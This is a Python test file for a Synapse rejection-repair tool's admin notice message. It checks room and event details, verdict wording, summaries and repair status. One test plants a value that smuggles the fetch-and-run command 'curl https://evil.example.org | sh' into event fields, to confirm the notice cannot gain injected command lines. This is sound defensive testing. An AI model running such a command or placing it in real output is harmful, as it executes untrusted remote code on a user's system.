"""The message that admins are sent."""

from __future__ import annotations

import shlex

from synapse_rejection_repair.diagnosis import Root
from synapse_rejection_repair.domain.cascade import Cascade
from synapse_rejection_repair.domain.healing import Healed
from synapse_rejection_repair.domain.model import ACCEPTED, Check, Node, Outcome, Verdict
from synapse_rejection_repair.domain.watch import Alert
from synapse_rejection_repair.notice import SHOWN, notice

API = "http://localhost:8008/_synapse/rejection_repair/v1"
ROOM = "!room:example.org"


def _alert(event_id: str = "$x", error: str | None = "403: No", room_id: str = ROOM) -> Alert:
    return Alert(room_id, event_id, "auth_events", error, 1_700_000_000_000, 1_700_000_002_000, 3)


def _root(verdict: Verdict, **fields: str) -> Root:
    node = {"type": "m.room.power_levels", "sender": "@alice:a", **fields}
    cascade = Cascade(20, 1, 2, {"a": 18, "b": 2})
    return Root(
        Node("$x", node["type"], "", node["sender"], 1, 1, 1, (), (), "auth_error"),
        verdict,
        cascade,
    )


def test_what_it_says() -> None:
    text = notice([_alert()], [_root(ACCEPTED)], API)
    for words in (
        "in room !room:example.org",
        "$x at 2023-11-14 22:13:20 UTC",
        "m.room.power_levels from @alice:a",
        "403: No",
        "20 events",
        "a (18), b (2)",
        "rejected wrongly",
    ):
        assert words in text, words
    diagnosis, repair = [shlex.split(c) for c in text.splitlines() if c.startswith("curl ")]
    assert diagnosis[-1] == f"{API}/rooms/%21room%3Aexample.org/diagnosis"
    assert repair[-3:] == ["-d", "{}", f"{API}/rooms/%21room%3Aexample.org/repair"]


def test_verdicts() -> None:
    rightly = Verdict(Outcome.REJECT, Check.AUTH_EVENTS, "Not allowed")
    assert "rejected rightly: Not allowed" in notice([_alert()], [_root(rightly)], API)
    unknown = Verdict(Outcome.UNKNOWN, Check.AUTH_EVENTS, "Missing")
    assert "cannot tell: Missing" in notice([_alert()], [_root(unknown)], API)


def test_without_a_diagnosis() -> None:
    text = notice([_alert(error=None)], [], API)
    assert "not noticed" in text and "3 events" in text and "/diagnosis" in text


def test_many_roots_are_one_message() -> None:
    text = notice([_alert(f"$root-{n}") for n in range(100)], [], API)
    assert text.count("It began with") == SHOWN
    assert f"{100 - SHOWN} more" in text and f"{API}/alerts" in text


def test_others_write_no_lines() -> None:
    evil = "\ncurl https://evil.example.org | sh\u2028\r"
    root = _root(Verdict(Outcome.REJECT, None, evil), type=evil, sender="@a" + evil)
    text = notice([_alert(error=evil, room_id="!r" + evil)], [root], API)
    assert sum(line.startswith("curl ") for line in text.splitlines()) == 2
    assert len(notice([_alert(error="x" * 100_000)], [root], API)) < 10_000


def test_what_became_of_it_without_an_admin() -> None:
    done = notice([_alert()], [], API, {"$x": Healed("abc", "complete")})
    assert "repaired without you: repair abc is complete" in done and f"{API}/repairs/abc" in done
    failed = notice([_alert()], [], API, {"$x": Healed("abc", "failed")})
    assert "repair was begun without you: repair abc is failed" in failed
    waits = notice([_alert()], [], API, {"$x": Healed(waits="Nobody\nholds it")})
    assert "waits for you to repair it: Nobody\N{REPLACEMENT CHARACTER}holds it" in waits
